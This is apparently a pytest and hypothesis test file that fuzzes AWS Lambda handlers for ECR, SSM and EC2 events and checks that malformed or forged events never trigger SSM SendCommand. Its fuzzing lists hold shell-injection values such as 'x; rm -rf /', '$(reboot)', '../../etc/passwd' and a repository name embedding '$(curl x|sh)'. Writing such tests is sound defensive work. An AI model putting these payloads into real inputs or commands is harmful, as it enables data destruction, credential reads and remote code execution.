"""Hostile and malformed events, generated (hypothesis) and hand-picked, against every handler:
none crashes a batch, none reaches SendCommand, each is rejected into the dead-letter queue with
its reason or ignored with a logged reason. The counts go to .local/hostile.json for
docs/reliability.md."""

from __future__ import annotations

import copy
import json
import string
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from devtools.local_stack.lambda_runtime import sqs_event
from tests.helpers import ROOT, CallCounter, load_event

EXAMPLES = 220
TALLY = ROOT / ".local" / "hostile.json"

SHELL = ";|&$`()<>\\\n\r\t\"' *?[]{}!#~"
hostile_text = st.one_of(
    st.text(alphabet=string.ascii_letters + string.digits + SHELL + "./:@-_", min_size=1, max_size=80).filter(
        lambda s: any(c in SHELL for c in s)
    ),
    st.sampled_from(
        [
            "$(reboot)",
            "`id`",
            "x; rm -rf /",
            "../../etc/passwd",
            "a" * 10_000,
            "ünïcødé-☃",
            "\x00nul",
            "--help",
            "${IFS}id",
            "x\ny",
            "'",
            '"',
            "sha256:" + "g" * 64,
            "i-$(id)",
            "123456789012; id",
        ]
    ),  # fmt: skip
    st.text(min_size=1, max_size=40).filter(lambda s: not s.isascii()),
)
wrong_type = st.one_of(
    st.integers(),
    st.floats(allow_nan=False),
    st.booleans(),
    st.none(),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
)


def mutate(
    base: dict[str, Any], data: st.DataObject, detail_fields: list[str], top_fields: list[str]
) -> dict[str, Any]:
    """At least one thing that makes the event invalid or forged; sometimes more."""
    event = copy.deepcopy(base)
    how = data.draw(
        st.sampled_from(
            ["hostile-detail", "hostile-top", "wrong-type", "missing", "forged", "extra+hostile", "not-an-object"]
        )
    )
    if how == "hostile-detail":
        event["detail"][data.draw(st.sampled_from(detail_fields))] = data.draw(hostile_text)
    elif how == "hostile-top":
        event[data.draw(st.sampled_from(top_fields))] = data.draw(hostile_text)
    elif how == "wrong-type":
        event["detail"][data.draw(st.sampled_from(detail_fields))] = data.draw(wrong_type)
    elif how == "missing":
        del event["detail"][data.draw(st.sampled_from(detail_fields))]
    elif how == "forged":
        event["source"] = data.draw(st.sampled_from(["my.app", "aws.ecr2", "aws.events", "", "AWS.ECR"]))
    elif how == "extra+hostile":
        event["detail"]["extra"] = data.draw(hostile_text)
        event["detail"][data.draw(st.sampled_from(detail_fields))] = data.draw(hostile_text)
    else:
        return data.draw(st.one_of(st.just([]), st.just("event"), st.just(None), st.just({"detail": "x"})))  # type: ignore[return-value]
    return event


def record_tally(handler: str, tried: int, reached: int) -> None:
    TALLY.parent.mkdir(parents=True, exist_ok=True)
    tally = json.loads(TALLY.read_text()) if TALLY.exists() else {}
    tally[handler] = {"hostile_tried": tried, "reached_send_command": reached}
    TALLY.write_text(json.dumps(tally, indent=2))


def sqs_records(bodies: list[str]) -> dict[str, Any]:
    messages = [{"MessageId": f"m{n}", "ReceiptHandle": "r", "Body": body, "Attributes": {"ApproximateReceiveCount": "1"}}
                for n, body in enumerate(bodies)]  # fmt: skip
    return sqs_event(messages, "arn:aws:sqs:us-east-1:123456789012:q", "us-east-1")


HAND_PICKED_PUSH = [
    {"detail-type": "ECR Image Action", "source": "aws.ecr"},
    {**load_event("ecr-push-tagged.json"), "detail": {**load_event("ecr-push-tagged.json")["detail"], "repository-name": "ml/trainer$(curl x|sh)"}},
    {**load_event("ecr-push-tagged.json"), "detail": {**load_event("ecr-push-tagged.json")["detail"], "image-tag": "v1;reboot"}},
    {**load_event("ecr-push-tagged.json"), "detail": {**load_event("ecr-push-tagged.json")["detail"], "image-digest": "sha256:../../x"}},
    {**load_event("ecr-push-tagged.json"), "account": "1234567890123"},
    {**load_event("ecr-push-tagged.json"), "region": "us-east-1; id"},
]  # fmt: skip


def test_hostile_push_events_never_reach_send_command(stack):
    function = stack.functions["ImagePushFunction"]
    base = load_event("ecr-push-tagged.json")
    outcomes: list[str] = []

    @settings(max_examples=EXAMPLES, deadline=None, database=None, phases=[Phase.generate],
              suppress_health_check=list(HealthCheck))  # fmt: skip
    @given(st.data())
    def run(data: st.DataObject) -> None:
        event = mutate(base, data, ["repository-name", "image-tag", "image-digest", "action-type", "result"],
                       ["account", "region", "time", "detail-type"])  # fmt: skip
        result = function.invoke(event)
        outcomes.append(result["action"])
        assert result["action"] in ("rejected", "ignored"), (event, result)

    with CallCounter() as counter:
        run()
        for event in HAND_PICKED_PUSH:
            outcomes.append(function.invoke(event)["action"])
    assert counter.count("ssm.SendCommand") == 0
    rejected = outcomes.count("rejected")
    dead = stack.queue_depth("ImagePushDLQ")
    assert dead == rejected and rejected + outcomes.count("ignored") == len(outcomes) >= 200
    record_tally("ImagePushFunction", len(outcomes), counter.count("ssm.SendCommand"))


@pytest.mark.parametrize(
    ("function_id", "sample", "detail_fields", "dlq"),
    [
        ("SsmAuditFunction", "ssm-invocation-success.json",
         ["command-id", "document-name", "instance-id", "requested-date-time", "status"], "AuditDLQ"),
        ("NodeJoinFunction", "ec2-running.json", ["instance-id", "state"], "NodeJoinDLQ"),
    ],
)  # fmt: skip
def test_hostile_queue_events_never_reach_send_command_nor_crash_a_batch(
    stack, function_id, sample, detail_fields, dlq
):
    from prefetcher.audit import is_our_document
    from prefetcher.events import CommandInvocationEvent, InstanceStateEvent

    function = stack.functions[function_id]
    base = load_event(sample)
    tried = {"n": 0, "retried": 0, "ignored": 0}
    model = CommandInvocationEvent if function_id == "SsmAuditFunction" else InstanceStateEvent

    def ignored(body: str) -> bool:
        """A valid shape the function drops with a logged reason (another document, an unknown
        instance)."""
        try:
            event = model.model_validate_json(body)
        except ValueError:
            return False
        if isinstance(event, CommandInvocationEvent):
            return not is_our_document(event.detail.document_name, stack.output("PrefetchDocument"))
        return True

    @settings(max_examples=EXAMPLES // 10 + 2, deadline=None, database=None, phases=[Phase.generate],
              suppress_health_check=list(HealthCheck))  # fmt: skip
    @given(st.lists(st.data(), min_size=10, max_size=10))
    def run(draws: list[st.DataObject]) -> None:
        bodies = []
        for data in draws:
            event = mutate(base, data, detail_fields, ["id", "account", "region", "time", "detail-type"])
            bodies.append(json.dumps(event) if data.draw(st.booleans()) or not isinstance(event, dict) else
                          data.draw(st.sampled_from([json.dumps(event)[:-1], "not json", "", json.dumps(event) + "x"])))  # fmt: skip
        # A whole batch of hostile records is handled record by record: the function returns
        result = function.invoke(sqs_records(bodies))
        tried["n"] += len(bodies)
        tried["retried"] += len(result["batchItemFailures"])
        tried["ignored"] += sum(1 for body in bodies if ignored(body))

    with CallCounter() as counter:
        run()
    assert counter.count("ssm.SendCommand") == 0
    assert tried["n"] >= 200
    # Every record was rejected into the dead-letter queue with its reason, dropped with a logged
    # reason (a valid shape that is not ours), or (a valid shape naming something unknown)
    # reported for the queue to retry and, after maxReceiveCount, dead-letter.
    assert stack.queue_depth(dlq) + tried["retried"] + tried["ignored"] == tried["n"]
    record_tally(function_id, tried["n"], counter.count("ssm.SendCommand"))
